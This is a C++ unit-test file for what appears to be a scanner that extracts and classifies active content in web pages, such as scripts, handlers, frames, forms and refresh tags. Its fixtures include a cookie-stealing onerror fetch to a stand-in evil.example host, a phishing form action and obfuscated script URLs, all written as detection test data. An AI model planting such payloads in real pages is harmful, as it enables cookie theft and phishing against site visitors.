#include "core/page/active_content.h"

#include <algorithm>
#include <string>

#include <gtest/gtest.h>

#include "core/hash/sha256.h"

namespace mamori::page {
namespace {

constexpr std::string_view kPage = "https://www.example.com/blog/post/?p=1";

ActiveContent must(std::string_view html, const Limits& limits = {}) {
  auto c = extract(html, kPage, limits);
  EXPECT_TRUE(c) << c.error().message();
  return c ? *c : ActiveContent{};
}

std::vector<std::string> ids(const ActiveContent& c) {
  std::vector<std::string> out;
  for (const auto& e : c.elements) out.push_back(e.kind + " " + e.value + " " + e.origin);
  return out;
}

using V = std::vector<std::string>;

TEST(ActiveContent, ScriptsResolveAndKeepTheirOrigin) {
  const auto c = must(R"(<html><head><script src="https://evil.example/x.js"></script>
    <SCRIPT SRC=/wp-includes/a.js?ver=6.1></SCRIPT>
    <script src="//cdn.example.net/b.js"></script>
    <script src="rel.js"></script></head><body>text</body></html>)");
  EXPECT_EQ(ids(c), (V{"script https://cdn.example.net/b.js https://cdn.example.net",
                       "script https://evil.example/x.js https://evil.example",
                       "script https://www.example.com/blog/post/rel.js https://www.example.com",
                       "script https://www.example.com/wp-includes/a.js?ver=6.1 "
                       "https://www.example.com"}));
  EXPECT_FALSE(c.truncated);
}

TEST(ActiveContent, TextImagesAndSameOriginLinksAreNotActive) {
  const auto c =
      must(R"(<p>Hello <a href="/about/">about</a> <a href="https://www.example.com/x">x</a>
    <img src="/a.png"> <a href="#top">top</a> <a href="mailto:a@b">m</a></p>)");
  EXPECT_TRUE(c.elements.empty()) << ids(c).size();
}

TEST(ActiveContent, LinksToOtherOriginsCountByOrigin) {
  const auto c =
      must(R"(<a href="https://other.example/a">a</a><a href="https://other.example/b">b</a>
    <a href="HTTPS://Other.Example:443/c">c</a><link rel="dns-prefetch" href="//s.w.org">)");
  EXPECT_EQ(ids(c), (V{"link https://other.example https://other.example",
                       "link https://s.w.org https://s.w.org"}));
}

TEST(ActiveContent, InlineScriptsAreHashed) {
  const auto c = must(
      "<script>\n  alert(1)\n</script><script type=\"application/ld+json\">{}</script>"
      "<script type=\"text/template\"><b>x</b></script><script type=module>m()</script>");
  ASSERT_EQ(c.elements.size(), 2u);
  EXPECT_EQ(c.elements[0].kind, kind::kInlineScript);
  EXPECT_EQ(c.elements[0].origin, kInlineOrigin);
  const std::string a = "sha256:" + hash::sha256(std::string_view("alert(1)")).hex();
  const std::string m = "sha256:" + hash::sha256(std::string_view("m()")).hex();
  EXPECT_TRUE((c.elements[0].value == a && c.elements[1].value == m) ||
              (c.elements[0].value == m && c.elements[1].value == a));
  // The same code with other surrounding space is the same element.
  EXPECT_EQ(ids(must("<script>alert(1)</script><script>m()</script>")), ids(c));
}

TEST(ActiveContent, HandlersAndJavascriptUrls) {
  const auto c = must(R"h(<img src=x onerror="fetch('//evil.example/'+document.cookie)">
    <a href=" java&#x09;script:alert(1)">x</a><body onload=go()>)h");
  V kinds;
  for (const auto& e : c.elements) kinds.push_back(e.kind + " " + e.origin);
  std::sort(kinds.begin(), kinds.end());
  EXPECT_EQ(kinds, (V{"event-handler inline", "event-handler inline", "javascript-url inline"}));
  for (const auto& e : c.elements) EXPECT_FALSE(e.snippet.empty());
}

TEST(ActiveContent, FramesObjectsFormsRefreshAndBase) {
  const auto c = must(
      R"(<iframe src="https://ads.example/f"></iframe><iframe srcdoc="<script>x()</script>"></iframe>
    <object data="/flash.swf"></object><embed src="https://e.example/e">
    <form action="https://phish.example/steal" method=post><button formaction="/x">b</button></form>
    <form action=""></form>
    <meta http-equiv="Refresh" content="0; URL='https://evil.example/landing'">
    <meta http-equiv="refresh" content="30"><base href="https://evil.example/">)");
  V kinds;
  for (const auto& e : c.elements) kinds.push_back(e.kind + " " + e.origin);
  EXPECT_EQ(kinds, (V{"base https://evil.example", "embed https://e.example",
                      "form-action https://phish.example", "form-action https://www.example.com",
                      "iframe https://ads.example", "iframe-srcdoc inline",
                      "meta-refresh https://evil.example", "object https://www.example.com"}));
}

TEST(ActiveContent, WhatBrowsersReadDespiteTricks) {
  // Backslashes are slashes, tabs vanish, any case: a browser loads evil.example here.
  for (const char* html : {R"(<script src="/\evil.example/x.js"></script>)",
                           R"(<script src="\\evil.example/x.js"></script>)",
                           "<script src=\"//evil.ex\tample/x.js\"></script>",
                           R"(<ScRiPt sRc='https:evil.example/x.js'></ScRiPt>)",
                           R"(<script src="https:///evil.example/x.js"></script>)",
                           R"(<script src="https://www.example.com@evil.example/x.js"></script>)",
                           R"(<div><p><table><script src="//evil.example/x.js"></script></table>)",
                           R"(<svg><script href="//evil.example/x.js"></script></svg>)",
                           R"(<template><script src="//evil.example/x.js"></script></template>)"}) {
    const auto c = must(html);
    bool found = false;
    for (const auto& e : c.elements)
      found = found || (e.kind == kind::kScript && e.origin == "https://evil.example");
    // "https:evil.example/x.js" under an https page is relative: www.example.com.
    if (std::string_view(html).find("https:evil") != std::string_view::npos) found = !found;
    EXPECT_TRUE(found) << html;
  }
}

TEST(ActiveContent, LimitsRefuseOrMark) {
  Limits small;
  small.max_bytes = 100;
  auto big = extract(std::string(101, 'x'), kPage, small);
  ASSERT_FALSE(big);
  EXPECT_NE(big.error().detail.find(kTooLarge), std::string::npos);
  small = {};
  small.max_tags = 10;
  EXPECT_FALSE(extract(std::string(11, '<'), kPage, small));
  small = {};
  small.max_elements = 3;
  std::string html;
  for (int i = 0; i < 10; ++i) html += "<script src=/s" + std::to_string(i) + ".js></script>";
  const auto c = must(html, small);
  EXPECT_EQ(c.elements.size(), 3u);
  EXPECT_TRUE(c.truncated);
  // A long URL keeps its identity: two differing only at the end differ.
  small = {};
  small.max_value_bytes = 200;
  const std::string pad(500, 'a');
  const auto two =
      must("<script src=/" + pad + "1></script><script src=/" + pad + "2></script>", small);
  ASSERT_EQ(two.elements.size(), 2u);
  EXPECT_LE(two.elements[0].value.size(), 200u);
  EXPECT_NE(two.elements[0].value, two.elements[1].value);
}

TEST(ActiveContent, DeepNestingIsWalkedWithoutRecursion) {
  std::string html;
  for (int i = 0; i < 10'000; ++i) html += "<div>";
  html += "<script src=https://evil.example/x.js></script>";
  const auto c = must(html);
  ASSERT_EQ(c.elements.size(), 1u);
  EXPECT_EQ(c.elements[0].origin, "https://evil.example");
}

TEST(Url, OriginOf) {
  EXPECT_EQ(origin_of("https://A.Example:443/x"), "https://a.example");
  EXPECT_EQ(origin_of("http://a.example:8080"), "http://a.example:8080");
  EXPECT_EQ(origin_of("http://u:p@a.example/"), "http://a.example");
  EXPECT_EQ(origin_of("http://[::1]:80/"), "http://[::1]");
  EXPECT_EQ(origin_of("data:text/javascript,x"), "data:");
  EXPECT_EQ(origin_of("/relative"), "");
}

TEST(Url, Resolve) {
  EXPECT_EQ(resolve_url("https://h/a/b?q", "c"), "https://h/a/c");
  EXPECT_EQ(resolve_url("https://h/a/b?q", "?r"), "https://h/a/b?r");
  EXPECT_EQ(resolve_url("https://h/a/b?q#f", "#g"), "https://h/a/b?q#g");
  EXPECT_EQ(resolve_url("https://h", "c"), "https://h/c");
  EXPECT_EQ(resolve_url("https://h/a", "//o/x"), "https://o/x");
  EXPECT_EQ(resolve_url("https://h/a", "  /x\n"), "https://h/x");
  EXPECT_EQ(resolve_url("https://h/a", "data:x"), "data:x");
}

TEST(ActiveContent, AddElementKeepsOrderAndIdentity) {
  ActiveContent c;
  EXPECT_TRUE(add_element(c, {"script", "b", "o", ""}));
  EXPECT_TRUE(add_element(c, {"script", "a", "o", ""}));
  EXPECT_FALSE(add_element(c, {"script", "a", "other", "s"}));
  ASSERT_EQ(c.elements.size(), 2u);
  EXPECT_EQ(c.elements[0].value, "a");
}

}  // namespace
}  // namespace mamori::page
